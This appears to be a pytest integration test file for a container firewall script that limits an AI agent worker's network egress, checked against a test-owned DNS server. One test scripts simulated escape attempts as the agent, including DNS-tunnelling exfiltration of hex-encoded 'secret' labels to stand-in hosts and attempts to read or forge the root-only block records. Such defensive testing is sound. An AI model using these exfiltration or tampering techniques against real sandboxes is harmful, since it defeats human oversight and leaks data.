"""init-firewall.sh in a real container: what it blocks is recorded, with the names the
lookups gave, in state only root can read; nothing leaves by DNS but lookups of allowed names.
The names come from a DNS server of the test's own (a peer container, which logs every query it
gets: what left the container by DNS), never from a public resolver."""

from __future__ import annotations

import contextlib
import json
import os
from collections.abc import Iterator
from typing import Any

import pytest
from docker.types import IPAMConfig, IPAMPool

DNS_SERVER = r"""
import socket, struct, sys

address = sys.argv[1]
names = sys.argv[2:]  # the names it knows ("*": every name, as behind a proxy that answers all)
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("", 53))
while True:
    query, peer = server.recvfrom(512)
    at, labels = 12, []
    while query[at]:
        labels.append(query[at + 1 : at + 1 + query[at]].decode())
        at += query[at] + 1
    qtype = struct.unpack("!H", query[at + 1 : at + 3])[0]
    print("asked", ".".join(labels).lower(), flush=True)
    question = query[12 : at + 5]
    known = "*" in names or ".".join(labels).lower() in names
    answer = b""
    if known and qtype == 1:
        answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton(address)
    head = struct.pack(
        "!HHHHHH", struct.unpack("!H", query[:2])[0], 0x8180 | (0 if known else 3), 1,
        1 if answer else 0, 0, 0,
    )
    server.sendto(head + question + answer, peer)
"""


@contextlib.contextmanager
def dns_server_for(docker_client: Any, peer_image: str, address: str, *names: str) -> Iterator[Any]:
    """A DNS server of the test's own, a peer container: names (or "*": every name) are at
    address; it prints each name it is asked."""
    server = docker_client.containers.run(
        peer_image,
        ["python3", "-c", DNS_SERVER, address, *names],
        user="nobody",
        detach=True,
        labels={"agent-worker-test": "dns"},
    )
    try:
        server.reload()
        yield server
    finally:
        server.remove(force=True)


@pytest.fixture
def dns_server(docker_client: Any, peer_image: str, target: str) -> Iterator[Any]:
    """registry.aw.test is the target's address."""
    with dns_server_for(docker_client, peer_image, target, "registry.aw.test") as server:
        yield server


AS_AGENT = "setpriv --reuid=agent --regid=agent --init-groups --no-new-privs"


def test_blocked_destinations_are_recorded_and_only_allowed_names_are_looked_up(
    docker_client: Any, command_image: str, dns_server: Any, target: str
) -> None:
    """registry.aw.test is allowed on port 9 only: its lookup goes on to the resolver, and a
    connection to its port 8080 is blocked and named. A lookup of any other name (data in its
    labels) is refused in the container and never reaches the resolver; nor does a query the
    agent sends the resolver itself. Both are recorded, in state only root can read."""
    resolver = dns_server.attrs["NetworkSettings"]["IPAddress"]
    script = f"""
        AW_ALLOW_HOSTS=registry.aw.test:9 /usr/local/bin/init-firewall.sh 2>/dev/null
        {AS_AGENT} bash -c '
          for i in 1 2; do curl -s --max-time 5 http://registry.aw.test:8080/; echo "curl=$?"; done
          getent hosts 7365637265742d31.exfil.aw.test; echo "exfil=$?"
          dig +time=2 +tries=1 @{resolver} 7365637265742d32.direct.aw.test; echo "direct=$?"
          cat /run/agent-worker-names; echo "read=$?"
          cat /run/agent-worker-refused; echo "read refused=$?"
          ipset save aw-blocked; echo "ipset=$?"
          echo "1.2.3.4 forged.example" >> /run/agent-worker-names; echo "write=$?"
          echo "forged.example" >> /run/agent-worker-refused; echo "write refused=$?"
        ' 2>&1
        echo "report: $(/usr/local/bin/init-firewall.sh --report)"
    """
    output = as_root_with_firewall_caps(docker_client, command_image, script, dns=[resolver])
    asked = dns_server.logs().decode()
    assert output.count("curl=7") == 2, output  # resolved, then refused at once
    assert "exfil=2" in output  # refused: no such name
    assert "direct=9" in output  # dig: no server could be reached
    for line in ("read=1", "read refused=1", "ipset=1", "write=1", "write refused=1"):
        assert line in output, output  # the records are root's
    assert "asked registry.aw.test" in asked  # what the resolver saw: the allowed name, only
    assert "exfil" not in asked
    assert "direct" not in asked
    report = json.loads(output.split("report: ", 1)[1])
    found = {(e["address"], e["protocol"], e["port"], tuple(e["names"])): e for e in report}
    assert set(found) == {
        (target, "tcp", 8080, ("registry.aw.test",)),
        ("", "dns", 53, ("7365637265742d31.exfil.aw.test",)),
        (resolver, "udp", 53, ()),
    }
    assert found[(target, "tcp", 8080, ("registry.aw.test",))]["count"] == 2
    assert found[("", "dns", 53, ("7365637265742d31.exfil.aw.test",))]["count"] >= 1
    assert [e["count"] for e in report] == sorted((e["count"] for e in report), reverse=True)


@pytest.fixture(scope="module")
def closed_network(docker_client: Any) -> Iterator[str]:
    """An internal network (nothing it carries leaves this machine) with IPv6 addresses."""
    network = docker_client.networks.create(
        f"aw-test-closed-{os.getpid()}",
        internal=True,
        enable_ipv6=True,
        ipam=IPAMConfig(pool_configs=[IPAMPool(subnet="fd00:a17::/64")]),
        labels={"agent-worker-test": "closed"},
    )
    try:
        yield str(network.name)
    finally:
        network.remove()


# A stand-in for a tool that does not do its work: it reads its input and changes nothing (a
# deny rule that does not deny), or it fails (a kernel without it).
# (rm first: the tools are links to one binary, which the others need whole)
NO_OP = "rm {0} && printf '#!/bin/sh\\ncat >/dev/null\\n' >{0} && chmod 0755 {0}"
FAILS = "rm {0} && printf '#!/bin/sh\\ncat >/dev/null; exit 1\\n' >{0} && chmod 0755 {0}"
# A stand-in for iptables-restore whose nat rules do nothing (a redirect that does not redirect).
NO_REDIRECT = """rm /usr/sbin/iptables-restore && cat >/usr/sbin/iptables-restore <<'EOF'
#!/bin/sh
rules=$(cat)
case "$rules" in *'*nat'*) exit 0 ;; esac
printf '%s\\n' "$rules" | /etc/alternatives/iptables-restore "$@"
EOF
chmod 0755 /usr/sbin/iptables-restore"""


def as_root_with_firewall_caps(docker_client: Any, image: str, script: str, **run: Any) -> str:
    """A bash script in a container of the image as root, with the capabilities the task's
    root stage has (the firewall's and setpriv's); its output."""
    output = docker_client.containers.run(
        image,
        ["bash", "-c", script],
        user="root",
        cap_drop=["ALL"],
        cap_add=["SETUID", "SETGID", "NET_ADMIN", "NET_RAW"],
        remove=True,
        **run,
    )
    return str(output.decode())


def firewall_in(docker_client: Any, image: str, network: str, broken: str = "") -> str:
    script = f"""
        {broken}
        /usr/local/bin/init-firewall.sh; echo "firewall exit=$?"
    """
    return as_root_with_firewall_caps(docker_client, image, script, network=network, stderr=True)


@pytest.mark.parametrize(
    ("broken", "says"),
    [
        (NO_OP.format("/usr/sbin/iptables-restore"), "its deny rule did not deny"),
        (FAILS.format("/usr/sbin/ip6tables-restore"), "IPv6 cannot be filtered here"),
        (NO_REDIRECT, "its redirect rule did not bring a connection to 192.0.2.2:9 to the egress"),
        ("rm /usr/local/bin/egress-proxy.py", "the egress proxy is not listening"),
    ],
)
def test_a_firewall_that_would_not_hold_stops_the_run(
    docker_client: Any, command_image: str, closed_network: str, broken: str, says: str
) -> None:
    """Rules that do not act on the container's network (a runtime whose network stack is not
    the kernel's), IPv6 on a container whose kernel has no ip6tables, a redirect to the egress
    proxy that does not redirect, or no proxy: the firewall says so and fails, and
    agent_inside.sh starts no agent. The same container with the tools whole passes."""
    output = firewall_in(docker_client, command_image, closed_network, broken)
    assert "firewall exit=1" in output, output
    assert f"agent-worker: error: firewall: {says}" in output, output
    whole = firewall_in(docker_client, command_image, closed_network)
    assert "firewall exit=0" in whole, whole
